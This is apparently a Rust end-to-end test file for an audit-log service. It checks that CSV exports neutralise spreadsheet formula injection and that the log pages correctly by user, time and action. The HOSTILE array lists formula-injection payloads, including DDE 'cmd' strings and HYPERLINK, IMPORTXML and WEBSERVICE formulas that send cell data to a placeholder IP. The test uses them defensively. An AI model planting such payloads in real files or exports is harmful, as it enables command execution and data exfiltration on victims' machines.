//! The log for spreadsheets: nothing that a caller writes is run, whichever cell it gets into; and the log by user, time
//! and action.

use std::fs;

use anyhow::{Context as _, Result, ensure};
use claviger_e2e::{House, Key, Reply};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

use super::Bench;

/// What people have put into cells to have it run; `canary` is how a row of theirs is known again.
const HOSTILE: [&str; 41] = [
    "=canary",
    "+canary",
    "-canary",
    "@canary",
    "=cmd|'/C canary'!A0",
    "+cmd|'/C canary'!A0",
    "-2+3+cmd|'/C canary'!A0",
    "@SUM(1+1)*cmd|'/C canary'!A0",
    "=DDE(\"cmd\";\"/C canary\";\"x\")",
    "=MSEXCEL|'\\..\\..\\canary.exe'!''",
    "=HYPERLINK(\"http://192.0.2.1/canary?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://192.0.2.1/canary?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://192.0.2.1/canary\")",
    "\t=canary",
    "\r=canary",
    "\n=canary",
    "\r\n=canary",
    "x\n=canary",
    "x\r=canary",
    "x\t=canary",
    " =canary",
    "   +canary",
    "\u{a0}=canary",
    "\u{3000}-canary",
    "\u{200b}=canary",
    "\u{feff}=canary",
    "\u{202e}=canary",
    "\u{b}=canary",
    "＝canary",
    "＋canary",
    "－canary",
    "＠canary",
    "−canary",
    "\"=canary\"",
    "\",=canary,\"",
    "x\",\"=canary",
    "x;=canary",
    "x; \"=canary",
    "x|@canary",
    "'=canary",
    "\"\n\"=canary",
];

const FORMULA: [char; 9] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_of_what_callers_write_is_run() -> Result<()> {
    let house = House::open().await?;
    let key = house.sim.knows(Key::binance()).await?;
    let credential = house.app.enrolled(&key).await?;
    for hostile in HOSTILE {
        writes_everywhere(&house, &credential, hostile).await?;
    }

    let mut rows = Vec::new();
    let mut next = Some("/api/v1/audit?limit=60".to_owned());
    while let Some(path) = next {
        let page = csv_at(&house, &path).await?;
        assert!(!page.body.starts_with("\u{feff}".as_bytes()), "programs trip over a byte order mark");
        rows.extend(records(&page.body)?);
        next = next_page(&page);
    }

    let seqs: Vec<u64> = rows.iter().map(|row| row[10].parse().unwrap()).collect();
    assert_eq!(seqs, (0..u64::try_from(rows.len())?).collect::<Vec<_>>(), "a row for each entry, in order");
    assert!(rows.iter().all(|row| row.len() == 14));
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for cell in &cells {
        assert!(!runs(cell), "{cell:?}");
    }
    let columns = |row: &Vec<String>| (0..14).filter(|at| row[*at].contains("canary")).collect::<Vec<_>>();
    let reached: Vec<usize> = rows.iter().flat_map(columns).collect();
    // Further facts: names, reasons. Owners are sealed.
    assert!(reached.iter().filter(|at| **at == 13).count() > 20, "{reached:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_log_is_read_by_user_time_and_action_page_by_page() -> Result<()> {
    let bench = Bench::set_up().await?;
    let house = &bench.house;
    let mut all = house.operator.audit(&house.tenant).await?;
    all.retain(|entry| entry["action"] != "audit.read");
    let with = async |query: &str| -> Result<Vec<Value>> { pages(house, query).await };
    let tenant = format!("tenant={}", house.tenant);

    assert_eq!(with(&format!("{tenant}&limit=3&to={}", all.len() + 1)).await?, all);
    let by_app = |entry: &&Value| entry["user_id"] == house.app.id.as_str();
    assert_eq!(with(&format!("user={}&limit=2", house.app.id)).await?, chosen(&all, by_app));
    let executions = chosen(&all, |entry| entry["action"].as_str().unwrap().starts_with("execution."));
    assert!(executions.len() > 5);
    assert_eq!(with(&format!("{tenant}&action=execution.*&limit=4")).await?, executions);
    let intents = chosen(&all, |entry| entry["action"] == "execution.intent");
    assert_eq!(with(&format!("{tenant}&action=execution.intent")).await?, intents);
    let (since, until) = (all[3]["at"].as_str().unwrap(), all[all.len() - 2]["at"].as_str().unwrap());
    let within = chosen(&all, |entry| (since..until).contains(&entry["at"].as_str().unwrap()));
    assert!(!within.is_empty() && within.len() < all.len());
    assert_eq!(with(&format!("{tenant}&since={since}&until={until}&limit=5")).await?, within);
    assert_eq!(with(&format!("{tenant}&from=3&to=5")).await?, all[2..4]);

    for (query, code) in [
        ("limit=0", "page_invalid"),
        ("limit=10001", "page_invalid"),
        ("since=yesterday", "page_invalid"),
        ("until=-1", "page_invalid"),
        ("cursor=x", "query_invalid"),
        ("order=up", "query_invalid"),
        ("usr=x", "query_invalid"),
    ] {
        house.operator.get(&format!("/api/v1/audit?{query}")).await?.problem(400, code).context(query)?;
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_log_is_read_back_to_its_first_entry_while_it_grows() -> Result<()> {
    let bench = Bench::set_up().await?;
    let house = &bench.house;
    let mut all = house.operator.audit(&house.tenant).await?;
    all.retain(|entry| entry["action"] != "audit.read");
    all.reverse();
    let tenant = format!("order=newest&tenant={}", house.tenant);

    // Each page is an entry more, on top of those that were there: what follows is not moved by it.
    assert_eq!(pages(house, &format!("{tenant}&limit=3")).await?, all);
    let whole = house.operator.get("/api/v1/audit?order=newest&limit=10000").await?.ok()?.json();
    let seqs: Vec<u64> = whole["data"].as_array().into_iter().flatten().filter_map(|one| one["seq"].as_u64()).collect();
    assert_eq!(seqs, (0..u64::try_from(seqs.len())?).rev().collect::<Vec<_>>());
    assert_eq!(whole["data"][0]["action"], "audit.read", "the newest is this very reading");

    let executions = chosen(&all, |entry| entry["action"].as_str().unwrap().starts_with("execution."));
    assert_eq!(pages(house, &format!("{tenant}&action=execution.*&limit=4")).await?, executions);
    let by_app = chosen(&all, |entry| entry["user_id"] == house.app.id.as_str());
    assert_eq!(pages(house, &format!("order=newest&user={}&limit=2", house.app.id)).await?, by_app);
    let number = |entry: &&Value| (3..6).contains(&entry["tenant_seq"].as_u64().unwrap());
    assert_eq!(pages(house, &format!("{tenant}&from=3&to=6&limit=2")).await?, chosen(&all, number));
    let (since, until) = (all[all.len() - 3]["at"].as_str().unwrap(), all[1]["at"].as_str().unwrap());
    let within = chosen(&all, |entry| (since..until).contains(&entry["at"].as_str().unwrap()));
    assert_eq!(pages(house, &format!("{tenant}&since={since}&until={until}&limit=5")).await?, within);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_for_a_spreadsheet_begins_with_the_mark_of_utf_8() -> Result<()> {
    let house = House::open().await?;
    let stop =
        json!({ "scope": { "kind": "owner", "tenant": house.tenant, "id": "o" }, "state": "frozen", "reason": "Zoë" });
    house.operator.post("/api/v1/stops", &stop).await?.ok()?;
    house.log_in().await?;
    let file = house.scratch.path().join("audit.csv");

    let piped =
        house.home.client(["audit", "csv", "--tenant", "default", "--action", "scope.*"])?.output().await?.ok()?;
    let path = file.to_str().context("a path that is text")?;
    house.home.client(["audit", "csv", "--out", path])?.output().await?.ok()?;

    assert!(piped.stdout.starts_with("\"user_id\",\"action\","), "{}", piped.stdout);
    assert_eq!(piped.stdout.lines().count(), 2, "{}", piped.stdout);
    let written = fs::read(file)?;
    let text = written.strip_prefix("\u{feff}".as_bytes()).context("no byte order mark")?;
    let rows = records(text)?;
    assert!(rows.iter().any(|row| row[13].contains("Zoë")), "{rows:?}");
    Ok(())
}

/// Puts a text wherever a caller may write one. Much of it is refused, which is an entry as well.
async fn writes_everywhere(house: &House, credential: &str, text: &str) -> Result<()> {
    let (operator, app, tenant) = (&house.operator, &house.app, &house.tenant);
    let owner =
        json!({ "scope": { "kind": "owner", "tenant": tenant, "id": text }, "state": "frozen", "reason": text });
    operator.post("/api/v1/stops", &owner).await?;
    let resumed = json!({ "scope": { "kind": "owner", "tenant": tenant, "id": text }, "reason": text });
    operator.post("/api/v1/stops/resume", &resumed).await?;
    operator.post("/api/v1/tenants", &json!({ "name": text })).await?;
    operator.post(&format!("/api/v1/tenants/{tenant}/apps"), &json!({ "name": text })).await?;
    let grant = json!({ "operations": ["read"], "symbols": [text] });
    operator.post(&format!("/api/v1/tenants/{tenant}/apps/{}/grants", app.id), &grant).await?;
    let freeze = format!("/api/v1/tenants/{tenant}/credentials/{credential}/freeze");
    operator.post(&freeze, &json!({ "reason": text })).await?;
    let mut enrollment = house.sim.knows(Key::binance()).await?.enrollment();
    (enrollment["owner"], enrollment["label"]) = (json!(text), json!(text));
    app.call("POST", "/api/v1/credentials", Some(&enrollment)).await?;
    let order =
        json!({ "credential": credential, "operation": "order.place", "params": [["symbol", text], [text, "x"]] });
    let unknown = json!({ "credential": credential, "operation": text, "params": [] });
    for (place, body) in [order, unknown].iter().enumerate() {
        let once = format!("key-{place}");
        let execute = hyper::Request::post("/api/v1/executions")
            .header("authorization", format!("Bearer {}", app.token))
            .header("content-type", "application/json")
            .header("idempotency-key", once)
            .header("user-agent", "=canary")
            .header("x-forwarded-for", "=canary");
        app.client().send(execute.body(body.to_string().into())?).await?;
    }
    let encoded = utf8_percent_encode(text, NON_ALPHANUMERIC);
    operator.get(&format!("/api/v1/tenants/{encoded}/credentials")).await?;
    operator.get(&format!("/api/v1/audit?user={encoded}&limit=1")).await?;
    app.get(&format!("/api/v1/credentials/{encoded}")).await?;
    Ok(())
}

/// Whether a spreadsheet would run a cell, or a piece of it where its reader parts cells elsewhere.
fn runs(cell: &str) -> bool {
    cell.split([',', ';', '|', '\t', '\r', '\n']).any(|piece| {
        let skipped = |c: char| c.is_whitespace() || c.is_control() || "\"\u{200b}\u{feff}\u{202e}\u{fffd}".contains(c);
        piece.trim_start_matches(skipped).starts_with(FORMULA)
    })
}

fn chosen<'a>(entries: &'a [Value], wanted: impl Fn(&&'a Value) -> bool) -> Vec<Value> {
    entries.iter().filter(wanted).cloned().collect()
}

/// All pages of a query.
async fn pages(house: &House, query: &str) -> Result<Vec<Value>> {
    let (mut entries, mut next) = (Vec::new(), Some(format!("/api/v1/audit?{query}")));
    while let Some(path) = next {
        let page = house.operator.get(&path).await?.ok()?;
        let json = page.json();
        entries.extend(json["data"].as_array().context("no data")?.iter().cloned());
        next = next_page(&page);
        ensure!(next.is_some() == json["next_cursor"].is_string(), "the header and the body disagree: {json}");
        ensure!(entries.len() < 1_000, "no end");
    }
    // Reading the log is in the log, too.
    entries.retain(|entry| entry["action"] != "audit.read");
    Ok(entries)
}

async fn csv_at(house: &House, path: &str) -> Result<Reply> {
    let request = hyper::Request::get(path).header("accept", "text/csv");
    let request = request.header("authorization", format!("Bearer {}", house.operator.bearer));
    house.operator.client().send(request.body(String::new().into())?).await?.ok()
}

fn next_page(page: &Reply) -> Option<String> {
    Some(page.header("link").strip_prefix('<')?.strip_suffix(">; rel=\"next\"")?.to_owned())
}

/// The rows under the head, whose first six columns are a regulator's.
fn records(body: &[u8]) -> Result<Vec<Vec<String>>> {
    let mut reader = csv::Reader::from_reader(body);
    let head: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    assert_eq!(head[..6], ["user_id", "action", "resource_type", "resource_id", "ip_address", "timestamp"]);
    let rows = reader.records().map(|row| Ok(row?.iter().map(str::to_owned).collect()));
    rows.collect()
}
